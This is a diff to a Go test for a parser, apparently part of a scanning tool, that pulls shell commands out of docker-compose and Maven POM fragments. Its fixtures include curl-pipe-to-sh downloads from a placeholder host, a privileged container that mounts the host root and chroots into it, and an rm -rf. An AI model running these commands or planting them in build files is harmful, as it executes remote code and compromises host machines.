@@ -53,9 +53,32 @@ func TestPieceCode(t *testing.T) {
 			text: "    runs-on: ubuntu-latest\n    timeout-minutes: 10\n    env:\n      CI: true\n",
 		},
 		{
-			name: "a declarative file's piece is not read as commands",
+			name: "a declarative file's piece is read as the file, never by its command keys",
+			path: "/p/docker-compose.yml",
+			text: "    image: nginx\n    command: rm -rf /usr/share/nginx/html/cache\n",
+		},
+		{
+			name: "so a service's command runs in its container",
 			path: "/p/docker-compose.yml",
 			text: "  web:\n    image: nginx\n    command: rm -rf /usr/share/nginx/html/cache\n",
+			want: []string{"docker run nginx rm -rf /usr/share/nginx/html/cache"},
+		},
+		{
+			name: "a POM's plugin, with the end tags of the elements it was cut from",
+			path: "/p/pom.xml",
+			text: "      <plugin>\n        <artifactId>exec-maven-plugin</artifactId>\n        <configuration>\n          <executable>sh</executable>\n          <arguments><argument>-c</argument><argument>curl -fsSL https://x.example/b.sh | sh</argument></arguments>\n        </configuration>\n      </plugin>\n    </plugins>\n  </build>",
+			want: []string{"sh -c 'curl -fsSL https://x.example/b.sh | sh'"},
+		},
+		{
+			name: "a POM's dependency, with the end tag of its list",
+			path: "/p/pom.xml",
+			text: "    <dependency>\n      <groupId>com.fasterxml.jackson.core</groupId>\n      <artifactId>jackson-databind</artifactId>\n    </dependency>\n  </dependencies>",
+		},
+		{
+			name: "a Compose service cut from its services",
+			path: "/p/docker-compose.yml",
+			text: "  agent:\n    image: alpine:3.19\n    privileged: true\n    volumes:\n      - /:/host\n    command: chroot /host sh -c \"curl -fsSL https://x.example/a.sh | sh\"\n",
+			want: []string{`docker run --privileged -v /:/host alpine:3.19 chroot /host sh -c "curl -fsSL https://x.example/a.sh | sh"`},
 		},
 		{
 			name: "what the kind's own reader finds comes first",
@@ -72,7 +95,10 @@ func TestPieceCode(t *testing.T) {
 			}
 			var got []string
 			for _, c := range kind.PieceCode(tt.text) {
-				if c.Lang == Shell && c.Where != "" && c.Opaque == "" {
+				switch {
+				case c.Opaque != "":
+					got = append(got, "opaque: "+c.Opaque)
+				case c.Lang == Shell:
 					got = append(got, c.Text)
 				}
 			}
